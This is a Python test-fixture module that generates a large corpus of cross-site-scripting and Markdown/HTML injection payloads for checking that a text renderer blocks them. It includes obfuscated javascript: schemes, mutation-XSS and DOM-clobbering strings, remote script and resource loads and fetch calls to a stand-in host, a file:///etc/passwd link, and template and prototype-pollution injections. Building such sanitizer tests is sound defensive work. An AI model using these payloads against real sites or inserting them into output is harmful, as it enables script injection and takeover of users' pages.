"""Texts that try to run something, load something or take over the page where they are shown.

They are made systematically: what does harm, in which tag, how it is disguised, and in which piece of Markdown. Whoever
shows text can be tried with all of `PAYLOADS`; each is one string, and none of them may have any effect.
"""

from collections.abc import Iterator
from itertools import product

ELSEWHERE = "https://elsewhere.example"

ACTIONS = ("alert(1)", "window.ran.push(1)", f"fetch('{ELSEWHERE}/f')")
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus autofocus tabindex=0", "onanimationstart", "ontoggle")
TAGS = (
    *(
        "img src=x",
        "svg",
        "body",
        "iframe",
        "video src=x",
        "audio src=x",
        "details open",
        "input",
        "select",
        "textarea",
    ),
    *(
        "object data=x",
        "embed src=x",
        "marquee",
        "math",
        "form",
        "a href=#",
        "div",
        "x-y",
        "style",
        "link rel=stylesheet",
    ),
)
SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript :",
    ),
    *("javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "java&Tab;script:", "jav&#x0A;ascript:"),
    *("vbscript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=", "blob:"),
    *(
        "file:///etc/passwd#",
        "filesystem:",
        "view-source:javascript:",
        "feed:javascript:",
        "//x/javascript:",
        "\\\\x\\",
    ),
)
PLACES = (
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", '[x]({} "t")', "[![x]({})](https://a.example)"),
    *(
        "[a]: {}\n[a]",
        "| a |\n|---|\n| [x]({}) |",
        "- [ ] [x]({})",
        '<a href="{}">x</a>',
        "<a href='{}' target=_self>x</a>",
    ),
)
DISGUISES = (
    *("{}", "<{}", "{}<!--", "<!-- -->{}", "`{}", "```\n{}", "```html\n{}", "> {}", "- {}", "1. {}", "# {}", "    {}"),
    *("| {} |\n|---|\n| {} |", "**{}**", "~~{}~~", "[{}](https://a.example)", "![{}](https://a.example/i.png)"),
    *("</div></p></td>{}", "\"'>{}", "</textarea></title></style></script>{}", "]]>{}", "${{}}", "{{{}}}", "\x00{}"),
    *("&lt;{}", "\u202e{}", "\ufeff{}", "{}\u2028", "<svg><![CDATA[{}]]></svg>", "[x](https://a.example '{}')", "\\{}"),
)
LOADS = (
    *(
        "<img src={e}/i>",
        "![x]({e}/i.png)",
        "![x][r]\n\n[r]: {e}/i.png",
        "<video poster={e}/p>",
        "<audio src={e}/a autoplay>",
    ),
    *("<link rel=stylesheet href={e}/c.css>", "<link rel=prefetch href={e}/p>", "<link rel=dns-prefetch href={e}>"),
    *("<script src={e}/s.js></script>", "<iframe src={e}/f>", "<object data={e}/o>", "<embed src={e}/e>"),
    *("<svg><image href={e}/i /></svg>", "<svg><use href={e}/u#a /></svg>", "<input type=image src={e}/i>"),
    *(
        "<style>@import '{e}/c';</style>",
        "<style>*{background:url({e}/b)}</style>",
        "<div style='background:url({e}/b)'>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url={e}'>",
        "<base href={e}>",
        "<body background={e}/b>",
        "<a ping={e} href=#>x</a>",
    ),
    *(
        "<form action={e}><button autofocus>",
        "<track src={e}/t>",
        "<picture><source srcset={e}/s></picture>",
        "<img srcset={e}/s>",
    ),
    *(
        "<math href={e}>x</math>",
        "<portal src={e}>",
        "<frameset><frame src={e}>",
        "<table background={e}/t>",
        "<applet code={e}>",
    ),
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<table><td><template><script>alert(1)</script></template></td></table>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect width=99 height=99 /></a></svg>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<a id=body><a id=body name=firstChild>clobbered</a>",
    "<form id=root><input name=childNodes><input name=attributes></form>",
    "<img name=currentScript><img name=cookie><img name=getElementById>",
    "<div id=app class='tk-tool' data-lang=x style=position:fixed;inset:0>over the page</div>",
    '```"><img/src=x onerror=alert(1)>\ncode\n```',
    "```javascript onerror=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/`onmouseover=alert(1)`)",
    '!["onerror=alert(1) x="](https://a.example/i.png)',
    '<https://a.example/"onmouseover=alert(1)>',
    'https://a.example/"onmouseover="alert(1)',
    "www.a.example/'><script>alert(1)</script>",
    'a@b.example"onmouseover=alert(1)',
    "<kbd><script>alert(1)</script></kbd>",
    "<code><img src=x onerror=alert(1)></code>",
    "<sub onclick=alert(1)>x</sub><br onload=alert(1)>",
    '{"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}',
    '{"type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=alert(1)>"}}}',
    '[{"constructor": {"prototype": {"ran": 1}}, "toString": "alert(1)", "length": -1}]',
    "../../<img src=x onerror=alert(1)>.png",
    "report.pdf\u202egpj.<script>alert(1)</script>",
    'name"onclick="alert(1)".md',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "javascript:alert(1)",
    '-->\'"/></sCript><deTailS open x=">" ontoggle=(alert)(1)>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=&#97;lert(1)>",
    "<img src='x'onerror='alert(1)'/ /=''>",
    "<\x00script>alert(1)</\x00script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)


def _all() -> Iterator[str]:
    for tag, event, action in product(TAGS, EVENTS, ACTIONS[:1]):
        yield f"<{tag} {event}={action}>"
    for disguise, action in product(DISGUISES, ACTIONS):
        yield disguise.replace("{}", f"<script>{action}</script>")
        yield disguise.replace("{}", f"<img src=x onerror={action}>")
    for place, scheme in product(PLACES, SCHEMES):
        yield place.replace("{}", f"{scheme}alert(1)")
    for load in LOADS:
        yield load.replace("{e}", ELSEWHERE)
    yield from MUTATIONS


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
